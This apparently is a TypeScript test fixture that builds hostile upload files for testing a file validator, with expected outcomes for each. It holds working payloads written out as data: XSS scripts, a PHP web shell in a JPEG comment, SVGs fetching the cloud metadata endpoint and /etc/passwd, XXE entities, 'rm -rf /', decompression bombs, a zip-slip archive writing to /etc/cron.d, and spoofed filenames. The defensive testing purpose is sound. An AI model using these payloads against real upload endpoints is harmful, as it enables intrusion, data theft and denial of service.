/** Files that somebody sends to hurt: how they are called, what is said of them, and what they hold. Made here, so that no scanner takes the repository for one of them. */
import { crc32, deflateSync, gzipSync } from 'node:zlib';
import sharp from 'sharp';

interface HostileFile {
  what: string;
  name: string;
  mimeType: string;
  bytes: Buffer;
}

/** What becomes of one: it is refused, or taken and harmless. */
export interface Case extends HostileFile {
  upload: 'refused' | 'taken';
  image: 'refused' | 'taken';
  /** Where a form, as a browser writes it, says it differently. */
  form?: 'refused' | 'taken';
}

const latin = (text: string): Buffer => Buffer.from(text, 'latin1');
const script = '<script>alert(document.domain)</script>';
const html = `<!doctype html><html><body>${script}</body></html>`;
const svg = (content: string): Buffer => latin(`<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">${content}</svg>`);

function chunk(type: string, content: Buffer): Buffer {
  const head = Buffer.alloc(4);
  head.writeUInt32BE(content.length);
  const body = Buffer.concat([latin(type), content]);
  const sum = Buffer.alloc(4);
  sum.writeUInt32BE(crc32(body));
  return Buffer.concat([head, body, sum]);
}

/** A PNG of one colour, of any size, in a few bytes. */
function hugePng(width: number, height: number): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header[8] = 1; // a bit for a pixel
  const line = Math.ceil(width / 8) + 1;
  return Buffer.concat([
    latin('\x89PNG\r\n\x1a\n'),
    chunk('IHDR', header),
    chunk('IDAT', deflateSync(Buffer.alloc(Math.min(line * height, 60_000_000)), { level: 9 })),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

function manyFrames(count: number): Buffer {
  const frame = latin('\x21\xf9\x04\0\0\0\0\0\x2c\0\0\0\0\x01\0\x01\0\0\x02\x02\x44\x01\0');
  return Buffer.concat([
    latin('GIF89a\x01\0\x01\0\x80\0\0\xff\xff\xff\0\0\0'),
    ...Array.from({ length: count }, () => frame),
    latin('\x3b'),
  ]);
}

/** A stored ZIP of one entry; nobody but the test believes what its directory says. */
function zipOf(name: string, content: Buffer, claimed = content.length): Buffer {
  const head = Buffer.alloc(26);
  head.writeUInt16LE(20, 0);
  head.writeUInt16LE(8, 4);
  head.writeUInt32LE(content.length, 14);
  head.writeUInt32LE(claimed, 18);
  head.writeUInt16LE(name.length, 22);
  return Buffer.concat([latin('PK\x03\x04'), head, latin(name), content]);
}

const box = (type: string, ...content: Buffer[]): Buffer => {
  const head = Buffer.alloc(4);
  head.writeUInt32BE(8 + content.reduce((sum, { length }) => sum + length, 0));
  return Buffer.concat([head, latin(type), ...content]);
};

/** A HEIC of one item, which says something and lies in so many pieces of so many bytes, one over the other. */
function manyPieces(count: number, length: number): Buffer {
  const entry = box('infe', latin('\x02\0\0\0\0\x01\0\0Exif\0'));
  const pieces = Buffer.alloc(count * 2);
  for (let at = 0; at < pieces.length; at += 2) pieces.writeUInt16BE(length, at);
  const places = latin(`\0\0\0\0\x02\0\0\x01\0\x01\0\0${String.fromCharCode(count >> 8, count & 255)}`);
  const list = [box('iinf', latin('\0\0\0\0\0\x01'), entry), box('iloc', places, pieces)];
  return Buffer.concat([box('ftyp', latin('heic\0\0\0\0')), box('meta', Buffer.alloc(4), ...list)]);
}

const pdfWith = (content: string): Buffer =>
  latin(`%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n${content}\ntrailer<</Root 1 0 R>>`);

const photo = (): Promise<Buffer> =>
  sharp({ create: { width: 60, height: 40, channels: 3, background: '#c83' } })
    .jpeg()
    .withMetadata({ exif: { IFD0: { Artist: script, Copyright: 'Someone' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 18/1 0/1' } } })
    .toBuffer();

const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';

/** All of them; the first word of each case says where it comes from. */
export async function hostileFiles(): Promise<Case[]> {
  const jpeg = await photo();
  const both = (upload: Case['upload'], image: Case['image']) => ({ upload, image });
  const no = both('refused', 'refused');
  const yes = both('taken', 'taken');
  const file = (what: string, [name, mimeType, bytes]: [string, string, Buffer], outcome: Omit<Case, keyof HostileFile>): Case => ({
    what,
    name,
    mimeType,
    bytes,
    ...outcome,
  });
  const jpg = (bytes: Buffer): [string, string, Buffer] => ['foto.jpg', 'image/jpeg', bytes];
  const polyglot = Buffer.concat([latin('GIF89a/*'), latin(`${html}*/=1;`)]);
  return [
    file('a page called a picture', ['bild.png', 'image/png', latin(html)], no),
    file('a page', ['seite.html', 'text/html', latin(html)], no),
    file('a page called a text', ['notiz.txt', 'text/plain', latin(`Hallo\n${html}`)], no),
    file('a page called a table', ['preise.csv', 'text/csv', latin(`a;b\n${script}`)], no),
    file('a page within a page of XHTML', ['seite.xhtml', 'application/xhtml+xml', latin(html)], no),
    file('a picture with a page behind it', jpg(Buffer.concat([jpeg, latin(html)])), yes),
    file('a picture that is also a script', ['bild.gif', 'image/gif', polyglot], no),
    file(
      'a picture with a program of PHP in its comment',
      jpg(Buffer.concat([jpeg.subarray(0, 2), latin('\xff\xfe\0\x20<?php system($_GET["c"]); ?>   '), jpeg.subarray(2)])),
      yes,
    ),
    file('a picture with an archive behind it', jpg(Buffer.concat([jpeg, zipOf('a.jsp', latin('<%%>'))])), yes),
    file('a picture that says who took it and where', jpg(jpeg), yes),
    file('a drawing with a script', ['logo.svg', 'image/svg+xml', svg(script)], both('taken', 'refused')),
    file(
      'a drawing with a page in it',
      [
        'logo.svg',
        'image/svg+xml',
        svg(`<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:alert(1)"/></foreignObject>`),
      ],
      both('taken', 'refused'),
    ),
    file(
      'a drawing that fetches something',
      ['logo.svg', 'image/svg+xml', svg('<image href="http://169.254.169.254/latest/meta-data/"/><use href="file:///etc/passwd#a"/>')],
      both('taken', 'refused'),
    ),
    file(
      'a drawing that acts when it is touched',
      ['logo.svg', 'image/svg+xml', svg('<rect width="9" height="9" onload="alert(1)"/><animate onbegin="alert(1)"/>')],
      both('taken', 'refused'),
    ),
    file(
      'a drawing with entities',
      [
        'logo.svg',
        'image/svg+xml',
        latin(
          `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b "&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg">&b;</svg>`,
        ),
      ],
      no,
    ),
    file('a drawing called a picture', ['foto.png', 'image/png', svg(script)], no),
    file('a program called a picture', jpg(latin('MZ\x90\0\x03\0\0\0This program cannot be run in DOS mode')), no),
    file('a program', ['setup.exe', 'application/x-msdownload', latin('MZ\x90\0')], no),
    file('a program called a document', ['rechnung.pdf', 'application/pdf', latin('\x7fELF\x02\x01\x01')], no),
    file('a program with two endings', ['foto.jpg.exe', 'image/jpeg', jpeg], both('refused', 'taken')),
    file('a picture with two endings', ['foto.exe.jpg', 'image/jpeg', jpeg], yes),
    file('a shell script called a text', ['los.txt', 'text/plain', latin('#!/bin/sh\nrm -rf /\n')], no),
    file('a picture of 30,000 by 30,000 pixels', ['bild.png', 'image/png', hugePng(30_000, 30_000)], no),
    file('a picture of 8,201 by 1 pixels', ['bild.png', 'image/png', hugePng(8_201, 1)], no),
    file(
      'a picture that says it has four thousand million pixels',
      ['bild.gif', 'image/gif', latin('GIF89a\xff\xff\xff\xff\x80\0\0\xff\xff\xff\0\0\0\x2c\0\0\0\0\xff\xff\xff\xff\0\x02\0\x3b')],
      no,
    ),
    file('a picture of 100,000 frames', ['bild.gif', 'image/gif', manyFrames(100_000)], yes),
    file('a picture that breaks off', jpg(jpeg.subarray(0, jpeg.length - 200)), no),
    file('a picture that is only its beginning', jpg(latin('\xff\xd8\xff')), no),
    file('a picture that says it is another', ['bild.png', 'image/jpeg', hugePng(9, 9)], no),
    file(
      'an archive that becomes a thousand times as large',
      ['alles.zip', 'application/zip', zipOf('null', deflateSync(Buffer.alloc(10_000_000)), 4_000_000_000)],
      both('taken', 'refused'),
    ),
    file(
      'an archive of archives',
      ['alles.gz', 'application/gzip', gzipSync(gzipSync(Buffer.alloc(10_000_000)))],
      both('taken', 'refused'),
    ),
    file(
      'an archive with a way out',
      ['alles.zip', 'application/zip', zipOf('../../../../etc/cron.d/x', latin('* * * * * root sh'))],
      both('taken', 'refused'),
    ),
    file('an archive called a document', ['brief.docx', word, zipOf('a.exe', latin('MZ'))], no),
    file('a document with a page in it', ['plan.pdf', 'application/pdf', pdfWith(html)], both('taken', 'refused')),
    file('a document behind a page', ['plan.pdf', 'application/pdf', Buffer.concat([latin(html), pdfWith('')])], no),
    file('a document that is none', ['plan.pdf', 'application/pdf', latin(`%PDF-1.4\n${'[ '.repeat(200_000)}`)], both('taken', 'refused')),
    file('a picture whose words lie in a few pieces', ['foto.heic', 'image/heic', manyPieces(3, 9)], both('taken', 'refused')),
    file('a picture whose words lie in too many pieces', ['foto.heic', 'image/heic', manyPieces(10_001, 1)], no),
    file('a picture whose words lie over each other', ['foto.heic', 'image/heic', manyPieces(400, 800)], no),
    file('an empty file', ['foto.jpg', 'image/jpeg', Buffer.alloc(0)], no),
    file('a name that is a way out', ['../../../../etc/passwd.jpg', 'image/jpeg', jpeg], yes),
    file('a name in another direction, with a line in it', ['gpj\u202e.exe\r\nSet-Cookie: a=b\u0000.jpg', 'image/jpeg', jpeg], {
      ...yes,
      form: 'refused',
    }),
    file('a name of two thousand letters', [`${'ä'.repeat(2_000)}.jpg`, 'image/jpeg', jpeg], yes),
    file('a medium with a line in it', ['foto.jpg', 'image/jpeg\r\nx: y', jpeg], { ...no, form: 'taken' }),
    file('a medium that is a page', ['foto.jpg', 'text/html', jpeg], no),
  ];
}
